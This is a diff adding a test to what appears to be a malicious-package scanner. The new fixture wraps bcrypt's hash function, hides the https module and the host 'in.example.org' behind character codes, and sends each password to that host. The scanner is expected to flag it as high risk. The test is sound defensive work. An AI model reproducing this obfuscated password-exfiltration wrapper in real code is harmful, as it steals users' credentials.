@@ -168,3 +168,9 @@ test('a key that is read by its name goes to the server of somebody else', () =>
   assert.equal(key('GITHUB_TOKEN', 'audit.widgets.org'), 'high');
   for (const [name, host] of [['GITHUB_TOKEN', 'api.github.com'], ['DATABASE_URL', 'localhost:3000'], ['LOG_LEVEL', 'audit.widgets.org'], ['OPENAI_API_KEY', 'api.widgets.org']] as const) assert.equal(key(name, host), 'nothing', name);
 });
+
+test('passwords that are to be hashed, sent by a module whose name nobody reads', () => {
+  const wrapped = (send: string) => worst({ 'index.js': `var lib = require('bcrypt'); var load = module.require.bind(module); var c = String.fromCharCode; var net = load(c(104, 116, 116, 112, 115)); var to = c.apply(null, [105, 110, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103]); function hash(word, rounds) { ${send} return lib.hash(word, rounds) } module.exports = Object.assign({}, lib, { hash: hash });` });
+  assert.equal(wrapped("net.get({ host: to, path: '/?' + encodeURIComponent(word) });"), 'high');
+  assert.equal(wrapped("net.get({ host: to, path: '/?rounds=' + rounds });"), 'nothing');
+});
